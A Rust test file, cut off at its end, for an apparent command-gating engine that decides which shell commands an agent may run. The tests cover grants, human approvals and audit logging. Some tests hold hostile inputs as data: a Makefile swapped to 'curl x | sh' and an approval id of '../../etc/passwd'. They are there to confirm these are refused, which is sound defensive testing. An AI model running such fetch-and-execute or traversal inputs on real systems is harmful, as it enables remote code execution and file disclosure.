//! The request path through [`Engine`]: gate, grants, approvals, audit.
//!
//! The backend here is a stand-in that records the specs it is given and
//! returns a fixed outcome: these tests are about the engine's decisions and
//! its ledger (what runs, what is refused, what is recorded), not about
//! isolation, which the sandbox crate's tests and the CLI tests (real native
//! backend) cover. The policy, gate, state directory and audit log are real.

use airlock_core::approvals::RefusalCode;
use airlock_core::audit::record::{ApprovalAction, Event, GrantAction};
use airlock_core::audit::{read_all, verify, Proceeding, Record};
use airlock_core::grants::{Boundary, GrantRequest};
use airlock_core::{
    ApprovalPrompt, Caller, Engine, EngineConfig, LedgerConfig, PromptAnswer, RunOptions,
    RunStatus, TenantId,
};
use airlock_policy::{Command, Policy, Request, Verdict};
use airlock_sandbox::backend::Discard;
use airlock_sandbox::{Backend, Outcome, OutputSink, SandboxError, SandboxSpec};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Default)]
struct RecordingBackend {
    specs: Mutex<Vec<SandboxSpec>>,
}

/// The engine owns its backend; the test keeps a second handle to read the specs.
struct Shared(Arc<RecordingBackend>);

impl Backend for Shared {
    fn name(&self) -> &'static str {
        "recording-test-backend"
    }
    fn run(&self, spec: &SandboxSpec, sink: &mut dyn OutputSink) -> Result<Outcome, SandboxError> {
        self.0.specs.lock().unwrap().push(spec.clone());
        sink.stdout(b"hello from the stand-in\n");
        sink.stderr(b"");
        Ok(Outcome {
            exit_code: Some(0),
            duration_ms: 5,
            stdout: "hello from the stand-in\n".into(),
            ..Outcome::default()
        })
    }
}

struct Fixture {
    _tmp: tempfile::TempDir,
    workspace: PathBuf,
    outside: PathBuf,
    state: PathBuf,
    backend: Arc<RecordingBackend>,
    engine: Engine,
    policy: Policy,
}

const POLICY: &str = r#"
[workspace]
root = "."
[commands]
allow = ["echo", "ls", "cat", "cp data.txt"]
approval = ["make deploy"]
[env]
set = { AIRLOCK_TEST_SECRET = "s3cr3t-value-never-logged" }
"#;

fn policy_from(text: &str, workspace: &Path) -> Policy {
    airlock_policy::load::from_str(text, "test-policy.toml", workspace)
        .unwrap()
        .policy
}

fn fixture_with(config: LedgerConfig) -> Fixture {
    // Not under /tmp: the gate treats /tmp as the sandbox's own scratch space,
    // and the grant tests need a host path that is really outside.
    let tmp = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let workspace = tmp.path().join("ws");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&workspace).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(workspace.join("data.txt"), "data").unwrap();
    let workspace = workspace.canonicalize().unwrap();
    let outside = outside.canonicalize().unwrap();
    let state = tmp.path().join("state");
    let backend = Arc::new(RecordingBackend::default());
    let mut cfg = EngineConfig::new(state.clone(), Box::new(Shared(backend.clone())));
    cfg.ledger = config;
    let engine = Engine::open(cfg).unwrap();
    let policy = policy_from(POLICY, &workspace);
    Fixture {
        _tmp: tmp,
        workspace,
        outside,
        state,
        backend,
        engine,
        policy,
    }
}

fn fixture() -> Fixture {
    fixture_with(LedgerConfig::default())
}

impl Fixture {
    fn request(&self, command: &str) -> Request {
        Request {
            command: Command::Shell {
                command: command.into(),
            },
            cwd: self.workspace.clone(),
            loosening: Default::default(),
        }
    }
    fn run(&self, command: &str, options: RunOptions<'_>) -> airlock_core::RunResponse {
        self.engine
            .run(
                &Caller::token("agent-1"),
                &self.policy,
                &self.request(command),
                options,
                &mut Discard,
            )
            .unwrap()
    }
    fn with_approval(&self, command: &str, id: &str) -> airlock_core::RunResponse {
        self.run(
            command,
            RunOptions {
                approval_id: Some(id.into()),
                ..Default::default()
            },
        )
    }
    fn runs(&self) -> usize {
        self.backend.specs.lock().unwrap().len()
    }
    fn records(&self) -> Vec<Record> {
        read_all(&self.state.join("audit")).unwrap()
    }
    fn approve(&self, id: &str) {
        self.engine
            .ledger()
            .approve(id, &Caller::cli(), Some("looks fine".into()))
            .unwrap();
    }
}

fn approval_actions(records: &[Record], id: &str) -> Vec<ApprovalAction> {
    records
        .iter()
        .filter_map(|r| match &r.event {
            Event::Approval(a) if a.approval_id == id => Some(a.action),
            _ => None,
        })
        .collect()
}

#[test]
fn an_allowed_command_runs_and_both_records_are_written_without_env_values() {
    let f = fixture();
    let resp = f.run("echo hi", RunOptions::default());
    assert_eq!(resp.status, RunStatus::Ran, "{}", resp.message);
    assert_eq!(f.runs(), 1);
    let records = f.records();
    assert_eq!(records.len(), 2);
    assert_eq!(resp.audit_ids, vec!["a1".to_string(), "a2".to_string()]);
    match (&records[0].event, &records[1].event) {
        (Event::Decision(d), Event::Execution(e)) => {
            assert_eq!(d.decision, Verdict::Allow);
            assert_eq!(d.disposition, Proceeding::Run);
            assert_eq!(d.request_id, resp.request_id);
            assert_eq!(d.policy_sha256, f.policy.sha256);
            assert!(!d.matched_rules.is_empty());
            assert_eq!(e.request_id, resp.request_id);
            assert!(
                e.env_names.iter().any(|n| n == "AIRLOCK_TEST_SECRET"),
                "{:?}",
                e.env_names
            );
            assert_eq!(e.stdout.bytes, 24);
            assert_eq!(e.outcome.as_ref().unwrap().exit_code, Some(0));
            assert_eq!(e.backend, "recording-test-backend");
        }
        other => panic!("unexpected records {other:?}"),
    }
    let raw = std::fs::read_to_string(f.state.join("audit/audit-000001.jsonl")).unwrap();
    assert!(
        !raw.contains("s3cr3t-value-never-logged"),
        "an env value reached the log"
    );
    verify(&f.state.join("audit")).unwrap();
}

#[test]
fn a_denied_command_never_reaches_the_backend_and_is_recorded() {
    let f = fixture();
    let resp = f.run("curl http://127.0.0.1/", RunOptions::default());
    assert_eq!(resp.status, RunStatus::Denied);
    assert_eq!(f.runs(), 0);
    let records = f.records();
    assert_eq!(records.len(), 1);
    match &records[0].event {
        Event::Decision(d) => {
            assert_eq!(d.decision, Verdict::Deny);
            assert_eq!(d.disposition, Proceeding::Denied);
            assert!(!d.reason.is_empty());
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn check_records_a_decision_and_runs_nothing() {
    let f = fixture();
    let resp = f
        .engine
        .check(
            &Caller::token("agent-1"),
            &f.policy,
            &f.request("make deploy"),
        )
        .unwrap();
    assert_eq!(resp.decision.decision, Verdict::ApprovalRequired);
    assert_eq!(f.runs(), 0);
    assert_eq!(f.records().len(), 1);
    assert!(
        f.engine.ledger().approvals().unwrap().is_empty(),
        "check must not create approvals"
    );
}

#[test]
fn approval_happy_path_then_replay_is_refused() {
    let f = fixture();
    let pending = f.run("make deploy", RunOptions::default());
    assert_eq!(pending.status, RunStatus::ApprovalPending);
    assert_eq!(f.runs(), 0);
    let id = pending.approval.as_ref().unwrap().id.clone();
    assert!(pending.message.contains(&id));

    // Not yet approved: refused as pending.
    let early = f.with_approval("make deploy", &id);
    assert_eq!(early.refusal.as_ref().unwrap().code, RefusalCode::Pending);

    f.approve(&id);
    let ran = f.with_approval("make deploy", &id);
    assert_eq!(ran.status, RunStatus::Ran, "{}", ran.message);
    assert_eq!(f.runs(), 1);

    let replay = f.with_approval("make deploy", &id);
    assert_eq!(replay.status, RunStatus::ApprovalRefused);
    assert_eq!(replay.refusal.as_ref().unwrap().code, RefusalCode::Replayed);
    assert_eq!(f.runs(), 1, "a replay must not run");

    let records = f.records();
    assert_eq!(
        approval_actions(&records, &id),
        vec![
            ApprovalAction::Created,
            ApprovalAction::Approved,
            ApprovalAction::Consumed
        ]
    );
    let exec = records
        .iter()
        .find_map(|r| match &r.event {
            Event::Execution(e) => Some(e.clone()),
            _ => None,
        })
        .unwrap();
    assert_eq!(exec.approval_id.as_deref(), Some(id.as_str()));
    assert!(
        exec.approver.as_deref().unwrap().starts_with("cli:"),
        "{:?}",
        exec.approver
    );
    verify(&f.state.join("audit")).unwrap();
}

#[test]
fn an_edited_command_or_cwd_is_refused() {
    let f = fixture();
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    f.approve(&id);
    let edited = f.with_approval("make deploy PROD=1", &id);
    assert_eq!(edited.refusal.unwrap().code, RefusalCode::CommandChanged);
    let sub = f.workspace.join("sub");
    std::fs::create_dir(&sub).unwrap();
    let mut req = f.request("make deploy");
    req.cwd = sub;
    let moved = f
        .engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &req,
            RunOptions {
                approval_id: Some(id.clone()),
                ..Default::default()
            },
            &mut Discard,
        )
        .unwrap();
    assert_eq!(moved.refusal.unwrap().code, RefusalCode::CwdChanged);
    assert_eq!(f.runs(), 0);
    // The refusals did not spend it: the exact request still runs.
    assert_eq!(f.with_approval("make deploy", &id).status, RunStatus::Ran);
}

#[test]
fn a_changed_script_is_refused_and_names_the_file() {
    // `make deploy` runs the Makefile: the approval covers what it said when
    // the approval was asked for (issue 11).
    let f = fixture();
    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\techo reviewed\n").unwrap();
    let pending = f.run("make deploy", RunOptions::default());
    let id = pending.approval.unwrap().id;
    let stored = f.engine.ledger().approval(&id).unwrap();
    assert_eq!(stored.content.len(), 1, "{:?}", stored.content);
    assert!(stored.content[0].content.starts_with("sha256:"));
    f.approve(&id);
    // A later run (or anyone) rewrites the Makefile.
    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\tcurl x | sh\n").unwrap();
    let swapped = f.with_approval("make deploy", &id);
    assert_eq!(swapped.status, RunStatus::ApprovalRefused);
    let refusal = swapped.refusal.unwrap();
    assert_eq!(refusal.code, RefusalCode::ContentChanged);
    assert!(
        refusal
            .message
            .starts_with("Makefile changed since it was approved"),
        "{}",
        refusal.message
    );
    assert_eq!(f.runs(), 0);
    // Put back, the approval (not spent by the refusal) runs.
    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\techo reviewed\n").unwrap();
    assert_eq!(f.with_approval("make deploy", &id).status, RunStatus::Ran);
}

#[test]
fn a_changed_policy_is_refused() {
    let mut f = fixture();
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    f.approve(&id);
    f.policy = policy_from(&format!("{POLICY}\n# edited\n"), &f.workspace);
    let resp = f.with_approval("make deploy", &id);
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::PolicyChanged);
    assert_eq!(f.runs(), 0);
}

#[test]
fn an_expired_approval_is_refused_and_its_expiry_recorded() {
    let f = fixture_with(LedgerConfig {
        approval_ttl: Duration::from_millis(300),
        ..LedgerConfig::default()
    });
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    f.approve(&id);
    std::thread::sleep(Duration::from_millis(400));
    let resp = f.with_approval("make deploy", &id);
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::Expired);
    assert_eq!(f.runs(), 0);
    assert_eq!(
        approval_actions(&f.records(), &id),
        vec![
            ApprovalAction::Created,
            ApprovalAction::Approved,
            ApprovalAction::Expired
        ]
    );
    // Approving an expired one is refused too.
    assert!(f
        .engine
        .ledger()
        .approve(&id, &Caller::cli(), None)
        .is_err());
}

#[test]
fn a_denied_approval_is_refused_and_recorded() {
    let f = fixture();
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    f.engine
        .ledger()
        .deny(&id, &Caller::cli(), Some("not today".into()))
        .unwrap();
    let resp = f.with_approval("make deploy", &id);
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::Denied);
    assert_eq!(f.runs(), 0);
    assert_eq!(
        approval_actions(&f.records(), &id),
        vec![ApprovalAction::Created, ApprovalAction::Denied]
    );
}

#[test]
fn a_token_cannot_approve_its_own_request_and_unknown_ids_are_refused() {
    let f = fixture();
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    let err = f
        .engine
        .ledger()
        .approve(&id, &Caller::token("agent-1"), None)
        .unwrap_err();
    assert!(err.to_string().contains("its own approval"), "{err}");
    let resp = f.with_approval("make deploy", "ap-000000000000");
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::NotFound);
    let resp = f.with_approval("make deploy", "../../etc/passwd");
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::NotFound);
}

#[test]
fn waiting_for_approval_runs_once_someone_approves() {
    let f = Arc::new(fixture());
    let approver = {
        let f = f.clone();
        std::thread::spawn(move || {
            for _ in 0..50 {
                std::thread::sleep(Duration::from_millis(100));
                let pending = f.engine.ledger().approvals().unwrap();
                if let Some(a) = pending.first() {
                    f.approve(&a.id);
                    return true;
                }
            }
            false
        })
    };
    let resp = f.run(
        "make deploy",
        RunOptions {
            wait_approval: Some(Duration::from_secs(10)),
            ..Default::default()
        },
    );
    assert!(approver.join().unwrap());
    assert_eq!(resp.status, RunStatus::Ran, "{}", resp.message);
    assert_eq!(f.runs(), 1);
}

#[test]
fn waiting_for_approval_times_out_without_running() {
    let f = fixture();
    let resp = f.run(
        "make deploy",
        RunOptions {
            wait_approval: Some(Duration::from_millis(300)),
            ..Default::default()
        },
    );
    assert_eq!(resp.status, RunStatus::ApprovalPending);
    assert_eq!(resp.refusal.unwrap().code, RefusalCode::Timeout);
    assert_eq!(f.runs(), 0);
}

struct Answer(bool);
impl ApprovalPrompt for Answer {
    fn ask(&mut self, approval: &airlock_core::approvals::Approval) -> PromptAnswer {
        assert!(!approval.reasons.is_empty());
        if self.0 {
            PromptAnswer::Approve { note: None }
        } else {
            PromptAnswer::Deny {
                note: Some("no".into()),
            }
        }
    }
    fn approver(&self) -> Caller {
        Caller {
            name: "person at tty".into(),
            kind: airlock_core::CallerKind::Cli,
            uid: Some(4242),
        }
    }
}

#[test]
fn asking_at_the_terminal_records_the_person_who_answered() {
    let f = fixture();
    let mut yes = Answer(true);
    let resp = f.run(
        "make deploy",
        RunOptions {
            prompt: Some(&mut yes),
            ..Default::default()
        },
    );
    assert_eq!(resp.status, RunStatus::Ran);
    let mut no = Answer(false);
    let resp = f.run(
        "make deploy",
        RunOptions {
            prompt: Some(&mut no),
            ..Default::default()
        },
    );
    assert_eq!(resp.status, RunStatus::ApprovalDenied);
    assert_eq!(f.runs(), 1);
    let approvers: Vec<String> = f
        .records()
        .iter()
        .filter_map(|r| match &r.event {
            Event::Approval(a)
                if matches!(a.action, ApprovalAction::Approved | ApprovalAction::Denied) =>
            {
                Some(a.who.name.clone())
            }
            _ => None,
        })
        .collect();
    assert_eq!(approvers, vec!["person at tty", "person at tty"]);
}

fn write_grant(f: &Fixture, ttl: Duration, uses: Option<u32>) -> String {
    f.engine
        .ledger()
        .create_grant(
            &Caller::cli(),
            GrantRequest {
                boundary: Boundary::Write {
                    paths: vec![f.outside.clone()],
                },
                tenant: TenantId::token("agent-1"),
                policy_sha256: f.policy.sha256.clone(),
                for_prefix: "cp data.txt".into(),
                ttl,
                max_uses: uses,
            },
        )
        .unwrap()
        .id
}

fn copy_out(f: &Fixture) -> airlock_core::RunResponse {
    f.run(
        &format!("cp data.txt {}/copy.txt", f.outside.display()),
        RunOptions::default(),
    )
}

#[test]
fn a_grant_loosens_matching_requests_until_its_uses_run_out() {
    let f = fixture();
    assert_eq!(
        copy_out(&f).status,
        RunStatus::Denied,
        "writing outside the workspace needs a grant"
    );
    let id = write_grant(&f, Duration::from_secs(600), Some(2));
    for _ in 0..2 {
        let resp = copy_out(&f);
        assert_eq!(resp.status, RunStatus::Ran, "{}", resp.message);
        assert_eq!(resp.decision.loosened_by, vec![id.clone()]);
    }
    let specs = f.backend.specs.lock().unwrap().clone();
    assert!(
        specs.iter().all(|s| s.write_paths.contains(&f.outside)),
        "the sandbox must get the granted path"
    );
    // A request the grant does not cover is not loosened.
    assert_eq!(
        f.run(
            &format!("cat {}/copy.txt", f.outside.display()),
            RunOptions::default()
        )
        .status,
        RunStatus::Denied
    );
    assert_eq!(copy_out(&f).status, RunStatus::Denied, "uses are spent");
    let used = f
        .records()
        .iter()
        .filter(|r| matches!(&r.event, Event::Grant(g) if g.action == GrantAction::Used && g.grant_id == id))
        .count();
    assert_eq!(used, 2);
    let loosened_execs = f
        .records()
        .iter()
        .filter(|r| matches!(&r.event, Event::Execution(e) if e.loosened_by == vec![id.clone()]))
        .count();
    assert_eq!(loosened_execs, 2);
}

#[test]
fn a_grant_expires_by_time() {
    let f = fixture();
    write_grant(&f, Duration::from_secs(1), None);
    assert_eq!(copy_out(&f).status, RunStatus::Ran);
    std::thread::sleep(Duration::from_millis(1100));
    assert_eq!(copy_out(&f).status, RunStatus::Denied);
}

#[test]
fn a_revoked_grant_stops_at_once() {
    let f = fixture();
    let id = write_grant(&f, Duration::from_secs(600), None);
    assert_eq!(copy_out(&f).status, RunStatus::Ran);
    f.engine.ledger().revoke_grant(&id, &Caller::cli()).unwrap();
    assert_eq!(copy_out(&f).status, RunStatus::Denied);
    assert_eq!(f.runs(), 1);
}

#[test]
fn a_callers_own_loosening_is_ignored() {
    let f = fixture();
    let mut req = f.request(&format!("cp data.txt {}/copy.txt", f.outside.display()));
    req.loosening.write_paths.push(f.outside.clone());
    req.loosening.grant_ids.push("gr-forged000000".into());
    let resp = f
        .engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &req,
            RunOptions::default(),
            &mut Discard,
        )
        .unwrap();
    assert_eq!(resp.status, RunStatus::Denied);
    assert!(resp.decision.loosened_by.is_empty());
    assert_eq!(f.runs(), 0);
}

#[test]
fn a_network_grant_loosens_only_under_an_allowlist_policy() {
    let f = fixture();
    let allowlist = policy_from(
        &format!("{POLICY}\n[network]\nmode = \"allowlist\"\nallow = []\n"),
        &f.workspace,
    );
    let grant = f
        .engine
        .ledger()
        .create_grant(
            &Caller::cli(),
            GrantRequest {
                boundary: Boundary::Network {
                    hosts: vec!["files.example.com".into()],
                },
                tenant: TenantId::token("agent-1"),
                policy_sha256: allowlist.sha256.clone(),
                for_prefix: "curl".into(),
                ttl: Duration::from_secs(600),
                max_uses: Some(1),
            },
        )
        .unwrap();
    let request = f.request("curl -sS https://files.example.com/pkg.tar.gz -o pkg.tar.gz");
    // Network mode none: nothing to add hosts to; the grant is not applied.
    let none = f
        .engine
        .check(&Caller::token("agent-1"), &f.policy, &request)
        .unwrap();
    assert!(none.decision.loosened_by.is_empty());
    assert!(airlock_core::grants::check_network_grant_policy(&f.policy).is_err());
    // Allowlist mode: the grant's hosts join the request's loosening, and the
    // decision and its record say so (check only: nothing runs here).
    airlock_core::grants::check_network_grant_policy(&allowlist).unwrap();
    let loosened = f
        .engine
        .check(&Caller::token("agent-1"), &allowlist, &request)
        .unwrap();
    assert_eq!(loosened.decision.loosened_by, vec![grant.id.clone()]);
    let record = f
        .records()
        .into_iter()
        .find(|r| r.id == loosened.audit_id)
        .unwrap();
    match record.event {
        Event::Decision(d) => {
            assert_eq!(
                d.loosening.network_hosts,
                vec!["files.example.com".to_string()]
            );
            assert_eq!(d.loosened_by, vec![grant.id]);
        }
        other => panic!("{other:?}"),
    }
}

/// A full disk under the state directory: the run is refused, nothing runs.
#[test]
fn a_full_disk_refuses_the_run() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("SKIPPED: mounting a tmpfs needs root");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mnt = tmp.path().join("small");
    std::fs::create_dir(&mnt).unwrap();
    assert!(std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
        .arg(&mnt)
        .status()
        .unwrap()
        .success());
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _guard = Unmount(mnt.clone());
    let backend = Arc::new(RecordingBackend::default());
    let engine = Engine::open(EngineConfig::new(
        mnt.join("state"),
        Box::new(Shared(backend.clone())),
    ))
    .unwrap();
    // Fill what is left.
    let filler = vec![b'x'; 4096];
    let mut file = std::fs::File::create(mnt.join("filler")).unwrap();
    use std::io::Write;
    while file.write_all(&filler).is_ok() {}
    drop(file);
    let f = fixture();
    let err = engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &f.request("echo hi"),
            RunOptions::default(),
            &mut Discard,
        )
        .unwrap_err();
    assert!(err.is_disk_full(), "{err}");
    assert!(err.to_string().contains("no space left"), "{err}");
    assert_eq!(
        backend.specs.lock().unwrap().len(),
        0,
        "nothing may run unlogged"
    );
}

/// Finding 1: a second token with the same policy presents the first token's
/// approved approval id. It is refused (`other_tenant`), nothing runs, and the
/// approval stays usable by the tenant that asked.
#[test]
fn an_approval_is_usable_only_by_the_tenant_that_asked() {
    let f = fixture();
    let id = f
        .run("make deploy", RunOptions::default())
        .approval
        .unwrap()
        .id;
    f.approve(&id);
    let theft = f
        .engine
        .run(
            &Caller::token("agent-2"),
            &f.policy,
            &f.request("make deploy"),
            RunOptions {
                approval_id: Some(id.clone()),
                ..Default::default()
            },
            &mut Discard,
        )
        .unwrap();
    assert_eq!(theft.status, RunStatus::ApprovalRefused);
    assert_eq!(theft.refusal.unwrap().code, RefusalCode::OtherTenant);
    assert!(
        theft.approval.is_none(),
        "nothing about it is shown to agent-2"
    );
    assert_eq!(f.runs(), 0);
    // The local user at the CLI is another tenant too.
    let cli = f
        .engine
        .run(
            &Caller::cli(),
            &f.policy,
            &f.request("make deploy"),
            RunOptions {
                approval_id: Some(id.clone()),
                ..Default::default()
            },
            &mut Discard,
        )
        .unwrap();
    assert_eq!(cli.refusal.unwrap().code, RefusalCode::OtherTenant);
    // The owner still runs it, once.
    let ran = f.with_approval("make deploy", &id);
    assert_eq!(ran.status, RunStatus::Ran, "{}", ran.message);
    assert_eq!(f.runs(), 1);
    let refused: Vec<_> = f
        .records()
        .into_iter()
        .filter_map(|r| match r.event {
            Event::Decision(d) if d.disposition == Proceeding::ApprovalRefused => {
                Some((d.tenant, d.approval.unwrap().result))
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        refused,
        vec![
            (TenantId::token("agent-2"), "other_tenant".to_string()),
            (Caller::cli().tenant(), "other_tenant".to_string())
        ]
    );
}

/// Finding 2: a grant made for one tenant under one policy loosens nothing for
/// another tenant, nor under another policy; a CLI user's grant for themself
/// reaches no API token.
#[test]
fn a_grant_loosens_only_its_tenant_under_its_policy() {
    let f = fixture();
    let id = write_grant(&f, Duration::from_secs(600), None);
    let copy = format!("cp data.txt {}/copy.txt", f.outside.display());
    let other = |caller: &Caller, policy: &Policy| {
        f.engine
            .run(
                caller,
                policy,
                &f.request(&copy),
                RunOptions::default(),
                &mut Discard,
            )
            .unwrap()
    };
    assert_eq!(
        other(&Caller::token("agent-2"), &f.policy).status,
        RunStatus::Denied
    );
    assert_eq!(other(&Caller::cli(), &f.policy).status, RunStatus::Denied);
    let edited = policy_from(&format!("{POLICY}\n# edited\n"), &f.workspace);
    assert_eq!(
        other(&Caller::token("agent-1"), &edited).status,
        RunStatus::Denied
    );
    assert_eq!(f.runs(), 0);
    assert_eq!(
        copy_out(&f).status,
        RunStatus::Ran,
        "its own tenant and policy"
    );
    // The CLI user's own grant stays the CLI user's.
    let mine = f
        .engine
        .ledger()
        .create_grant(
            &Caller::cli(),
            GrantRequest {
                boundary: Boundary::Write {
                    paths: vec![f.outside.clone()],
                },
                tenant: Caller::cli().tenant(),
                policy_sha256: f.policy.sha256.clone(),
                for_prefix: "cp".into(),
                ttl: Duration::from_secs(600),
                max_uses: None,
            },
        )
        .unwrap();
    let agent = other(&Caller::token("agent-2"), &f.policy);
    assert_eq!(agent.status, RunStatus::Denied);
    assert!(agent.decision.loosened_by.is_empty());
    let local = other(&Caller::cli(), &f.policy);
    assert_eq!(local.decision.loosened_by, vec![mine.id]);
    let _ = id;
}

/// A server's run leaves its execution record's sync for after the answer:
/// the record is in the chain at once, the head anchor (which only ever names
/// a durable record) reaches it once `sync_deferred` ran, and the decision
/// record was durable before the command started either way (its anchor, too,
/// moves after the answer).
#[test]
fn deferred_execution_record_is_written_at_once_and_anchored_after_its_sync() {
    let f = fixture();
    let audit = f.state.join("audit");
    let seq_of = |r: &Record| r.seq;
    let r = f.run(
        "echo hi",
        RunOptions {
            defer_execution_sync: true,
            ..Default::default()
        },
    );
    assert_eq!(r.status, RunStatus::Ran);
    let records = f.records();
    let last = records.last().unwrap();
    assert!(matches!(last.event, Event::Execution(_)));
    assert_eq!(r.audit_ids.last(), Some(&last.id));
    let anchor = |dir: &Path| {
        airlock_core::audit::log::read_anchor(dir)
            .unwrap()
            .map(|a| a.seq)
    };
    // (A fresh log's first record, the decision, is anchored at its sync.)
    assert!(
        anchor(&audit) < Some(seq_of(last)),
        "the execution record is anchored after the answer"
    );
    f.engine.sync_deferred().unwrap();
    assert_eq!(
        anchor(&audit),
        Some(seq_of(last)),
        "the execution record is anchored"
    );
    verify(&audit).unwrap();
    // Nothing left to sync: a second call is a no-op.
    f.engine.sync_deferred().unwrap();
}

/// Mounts a tmpfs of `size` at `dir/small` (root only) and unmounts it when dropped.
struct SmallDisk {
    mnt: PathBuf,
    _tmp: tempfile::TempDir,
}

impl SmallDisk {
    fn mount(size: &str) -> Option<SmallDisk> {
        if !rustix::process::geteuid().is_root() {
            eprintln!("SKIPPED: mounting a tmpfs needs root");
            return None;
        }
        let tmp = tempfile::tempdir().unwrap();
        let mnt = tmp.path().join("small");
        std::fs::create_dir(&mnt).unwrap();
        assert!(std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(&mnt)
            .status()
            .unwrap()
            .success());
        Some(SmallDisk { mnt, _tmp: tmp })
    }
}

/// Take every free byte left on the filesystem of `dir`.
fn fill_disk(dir: &Path) {
    use std::io::Write;
    let mut file = std::fs::File::create(dir.join("filler")).unwrap();
    for chunk in [65536, 4096, 512, 1] {
        while file.write_all(&vec![b'x'; chunk]).is_ok() {}
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.mnt).status();
    }
}

/// A stand-in whose command fills the disk the state directory is on (as a
/// command writing a big file there could), then reports `changes` applied.
struct FillingBackend {
    disk: PathBuf,
    changes: Vec<airlock_sandbox::FileChange>,
}

impl Backend for FillingBackend {
    fn name(&self) -> &'static str {
        "filling-test-backend"
    }
    fn run(&self, _: &SandboxSpec, _: &mut dyn OutputSink) -> Result<Outcome, SandboxError> {
        fill_disk(&self.disk);
        Ok(Outcome {
            exit_code: Some(0),
            // More than the log file's last page can take.
            stdout: "o".repeat(8000),
            changes: self.changes.clone(),
            applied: !self.changes.is_empty(),
            ..Outcome::default()
        })
    }
}

fn change(path: String) -> airlock_sandbox::FileChange {
    airlock_sandbox::FileChange {
        path,
        kind: airlock_sandbox::ChangeKind::Added,
        file_type: airlock_policy::changes::EntryType::File,
        size: 1,
        mode: Some("0644".into()),
        target: None,
        replaces: None,
        disposition: None,
        reason: None,
    }
}

fn filling_engine(disk: &SmallDisk, changes: Vec<airlock_sandbox::FileChange>) -> Engine {
    Engine::open(EngineConfig::new(
        disk.mnt.join("state"),
        Box::new(FillingBackend {
            disk: disk.mnt.clone(),
            changes,
        }),
    ))
    .unwrap()
}

/// The room held before a run keeps its execution record writable when the
/// command itself fills the disk: a run never ends with a decision record only.
#[test]
fn a_disk_filled_by_the_command_still_takes_its_execution_record() {
    let Some(disk) = SmallDisk::mount("2m") else {
        return;
    };
    let engine = filling_engine(&disk, vec![change("/ws/applied".into())]);
    let f = fixture();
    let response = engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &f.request("echo hi"),
            RunOptions::default(),
            &mut Discard,
        )
        .unwrap();
    assert_eq!(response.status, RunStatus::Ran);
    let dir = disk.mnt.join("state/audit");
    let records = read_all(&dir).unwrap();
    assert!(
        matches!(&records.last().unwrap().event, Event::Execution(e) if e.applied),
        "{records:?}"
    );
    verify(&dir).unwrap();
    // The room held was what took it.
    assert_eq!(std::fs::metadata(dir.join("reserve")).unwrap().len(), 0);
    // The next run finds no room to hold: refused before anything runs.
    let err = engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &f.request("echo hi"),
            RunOptions::default(),
            &mut Discard,
        )
        .unwrap_err();
    assert!(err.is_disk_full(), "{err}");
    let msg = err.to_string();
    assert!(msg.contains("nothing was run"), "{msg}");
    assert!(
        msg.contains(&disk.mnt.join("state/audit").display().to_string()),
        "{msg}"
    );
    assert!(msg.contains("bytes held free"), "{msg}");
}

/// An execution record too big for the room held, on a full disk: the error
/// says that the command ran, how it ended and that its changes were applied.
#[test]
fn an_execution_record_that_cannot_be_written_says_the_command_ran() {
    let Some(disk) = SmallDisk::mount("2m") else {
        return;
    };
    let long = "d/".repeat(2000);
    let changes = (0..100).map(|i| change(format!("/ws/{long}{i}"))).collect();
    let engine = filling_engine(&disk, changes);
    let f = fixture();
    let err = engine
        .run(
            &Caller::token("agent-1"),
            &f.policy,
            &f.request("echo hi"),
            RunOptions::default(),
            &mut Discard,
        )
        .unwrap_err();
    let msg = err.to_string();
    assert!(!err.is_disk_full(), "{msg}");
    assert!(!msg.contains("nothing was run"), "{msg}");
    assert!(
        msg.contains("the command ran and exited with code 0"),
        "{msg}"
    );
    assert!(
        msg.contains("its changes (100 file(s)) WERE applied to the host"),
        "{msg}"
    );
    assert!(msg.contains("no space left on device"), "{msg}");
    assert!(
        msg.contains("execution record could not be written"),
        "{msg}"
    );
}

/// A run decision whose execution record never came (its process was
/// killed mid-run) is named by `verify` as a warning, not a failure.
#[test]
fn verify_warns_of_a_run_decision_with_no_execution_record() {
    let f = fixture();
    assert_eq!(
        f.run("echo hi", RunOptions::default()).status,
        RunStatus::Ran
    );
    let records = read_all(&f.state.join("audit")).unwrap();
    let decision = records
        .iter()
        .find(|r| matches!(&r.event, Event::Decision(d) if d.disposition == Proceeding::Run))
        .unwrap()
        .event
        .clone();
    let execution = records
        .iter()
        .find(|r| matches!(&r.event, Event::Execution(_)))
        .unwrap()
        .event
        .clone();
    let tmp = tempfile::tempdir().unwrap();
